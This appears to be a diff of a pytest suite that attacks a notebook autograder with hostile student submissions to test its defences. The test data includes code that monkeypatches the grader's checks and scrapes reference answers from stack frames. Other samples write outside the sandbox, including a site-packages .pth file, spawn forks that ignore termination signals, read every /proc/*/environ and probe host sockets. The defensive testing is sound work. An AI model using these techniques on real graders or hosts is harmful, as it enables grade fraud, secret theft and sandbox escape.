+                autograder.assert_close, autograder.checks._isclose = _fakes
+                time.sleep(0.0005)
+                autograder.assert_close, autograder.checks._isclose = _orig
+                time.sleep(0.0005)
+        threading.Thread(target=_flip, daemon=True).start()
+        SEEN = []
+        def _on_alarm(signum, frame):
+            f = frame
+            while f is not None:
+                if "ref" in f.f_locals:
+                    SEEN.append(repr(f.f_locals["ref"])[:100])
+                f = f.f_back
+        signal.signal(signal.SIGALRM, _on_alarm)
+        signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
+    '''), at_end=['print("SEEN", SEEN)']),
 
     # 7. escaping the sandbox -------------------------------------------------------------------
-    Attack("escape_probe", "every /proc/*/environ (open, str subclass, `cat`), the host's TCP "
-           "server on 127.0.0.1 and an abstract unix socket, the grader's pid",
+    Attack("escape", "write outside the sandbox (repository, package dirs, a site-packages .pth, "
+           "/tmp, home, the test's courses); fork children that ignore SIGTERM/SIGHUP and keep "
+           "writing; read every /proc/*/environ (open, str subclass, `cat`); connect to the "
+           "test's TCP server on 127.0.0.1 and its abstract unix socket; look for the grader's pid",
            WRONG + src(r'''
-        import os, socket, subprocess, glob
+        import os, sys, site, signal, socket, subprocess, glob, time
+        ROOTS = @ROOTS@
+        targets = ["/work/main/tamper_@MARKER@", "/work/main/autograder/tamper_@MARKER@.py",
+                   "/work/main/minillm/tamper_@MARKER@.py", "/tmp/tamper_@MARKER@",
+                   os.path.expanduser("~/tamper_@MARKER@")]
+        targets += [os.path.join(p, "tamper_@MARKER@.pth") for p in site.getsitepackages()]
+        targets += [os.path.join(r, "tamper_@MARKER@") for r in ROOTS]
+        for t in targets:
+            try:
+                with open(t, "w") as f:
+                    f.write("# tamper marker\n")
+                print("wrote", t)
+            except Exception as e:
+                print("cannot write", t, type(e).__name__)
+        for i in range(2):                 # plain forks: they look like the kernel
+            if os.fork() == 0:
+                try:
+                    os.setsid()
+                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
+                    signal.signal(signal.SIGHUP, signal.SIG_IGN)
+                    end = time.time() + 30
+                    while time.time() < end:
+                        for p in ["/tmp/tamper_fork_@MARKER@"] + [r + "/tamper_fork_@MARKER@" for r in ROOTS]:
+                            try:
+                                open(p, "w").write("fork")
+                            except Exception:
+                                pass
+                        time.sleep(0.5)
+                finally:
+                    os._exit(0)
         class _Name(str):
             pass
         for p in sorted(glob.glob("/proc/[0-9]*")):
@@ -899,12 +785,12 @@ ATTACKS = [
             print("grader pid not visible", type(e).__name__)
         print("visible pids", sorted(int(p.rsplit("/", 1)[1]) for p in glob.glob("/proc/[0-9]*")))
     '''), forbid=("NETWORK_REACHED", "UNIX_REACHED", "HOSTPID_VISIBLE"),
-           require=("network refused", "visible pids")),
+           require=("cannot write", "network refused", "visible pids")),
 
     # 8. robustness -------------------------------------------------------------------------------
     Attack("robust_not_json", "a notebook file that is not JSON", raw="this is {not a notebook\n",
            earned=E_NONE, tamper=False),
-    Attack("robust_million_cells", "a notebook with 1,000,000 cells (about 50 MB)",
+    Attack("robust_million_cells", "a notebook with 1,000,000 cells (about 54 MB)",
            build=_million_cells, earned=E_NONE, tamper=False),
     Attack("robust_print_100mb", "the solution cell prints 100 MB",
            "for _ in range(100):\n    print('x' * (1 << 20))\n" + GOOD,
@@ -915,11 +801,9 @@ ATTACKS = [
            GOOD + "import os\nos._exit(1)\n", earned=E_NONE, tamper=False),
     Attack("robust_alloc_2g", "a 2 GiB allocation before scale is defined",
            "x = bytearray(2 << 30)\n" + GOOD, earned=E_NONE, tamper=False),
-    Attack("struct_fake_cells", "extra cells claiming to be graded (a duplicate 99_scale_test id, "
+    Attack("fake_grade_cells", "extra cells claiming to be graded (a duplicate 99_scale_test id, "
            "an unknown 99_bonus worth 100, a second 99_asset_test), the solution cell marked "
            "graded with 50 points", build=_notebook_with_fake_cells, tamper=False),
-    Attack("struct_no_tests", "the test cells deleted", build=_notebook_without_tests,
-           earned=E_NONE, tamper=False),
 ]
 for _a in ATTACKS:
     if _a.solution and "MEMSCAN_SOURCE" in _a.solution:
@@ -1077,7 +961,8 @@ def run(tmp_path_factory):
     mp.setenv("TMPDIR", str(jobtmp))
     mp.setattr(tempfile, "tempdir", str(jobtmp))
     try:
-        alone_course, batch_course = make_course(alone_root), make_course(batch_root)
+        courses = _in_threads(lambda: make_course(alone_root), lambda: make_course(batch_root))
+        alone_course, batch_course = courses
         released = nbformat.read(str(alone_course.release_dir(DUMMY) / f"{DUMMY}.ipynb"),
                                  as_version=4)
 
@@ -1106,20 +991,42 @@ def run(tmp_path_factory):
                 nb.cells.append(new_code_cell(fill(extra)))
             return nbformat.writes(nb)
 
-        # the honest submission alone, in a course of its own; then the batch
-        alone = grade_batch(alone_course, {HONEST: notebook(None)})
-        batch = grade_batch(batch_course, {HONEST: notebook(None),
-                                           **{a.name: notebook(a) for a in SELECTED}})
+        # the honest submission alone, in a course of its own, while the batch is graded
+        alone_nb = notebook(None)
+        batch_nbs = {HONEST: notebook(None), **{a.name: notebook(a) for a in SELECTED}}
+        alone, batch = _in_threads(lambda: grade_batch(alone_course, {HONEST: alone_nb}),
+                                   lambda: grade_batch(batch_course, batch_nbs))
         survivors = surviving_processes(marker, [alone_root, batch_root, jobtmp])
         time.sleep(1)          # anything left would now have had time to write
         for student in batch.records:
             batch.after[student] = _scores(batch.course.scores(student, DUMMY))
         host_files = [str(p) for p in _host_marker_files(marker, roots)]
+        for path in host_files:             # evidence kept in the report; do not litter
+            Path(path).unlink(missing_ok=True)
         yield Run(marker, secret, alone, batch, list(listener.hits), survivors, host_files, roots)
     finally:
         mp.undo()
         listener.close()
         shutil.rmtree(jobtmp, ignore_errors=True)
+
+
+def _in_threads(*fns):
+    """Run each function in a thread of its own; their results, in order (or raise)."""
+    results, errors = [None] * len(fns), []
+
+    def call(i, fn):
+        try:
+            results[i] = fn()
+        except BaseException as e:          # noqa: BLE001 - re-raised below
+            errors.append(e)
+    threads = [threading.Thread(target=call, args=(i, fn)) for i, fn in enumerate(fns)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    if errors:
+        raise errors[0]
+    return results
 
 
 def _host_marker_files(marker: str, roots: list[str]) -> list[Path]:
@@ -1203,13 +1110,7 @@ def test_no_hidden_test_and_no_grader_secret_in_any_feedback_or_csv(run):
 
 
 # --- each attack ------------------------------------------------------------------------------------
-def _param(a: Attack):
-    marks = [pytest.mark.xfail(reason=f"documented limit: {a.documented}", strict=False)] \
-        if a.documented else []
-    return pytest.param(a.name, marks=marks, id=a.name)
-
-
-@pytest.mark.parametrize("name", [_param(a) for a in SELECTED])
+@pytest.mark.parametrize("name", [a.name for a in SELECTED])
 def test_attack(run, name):
     attack = BY_NAME[name]
     rec = run.batch.records.get(name)
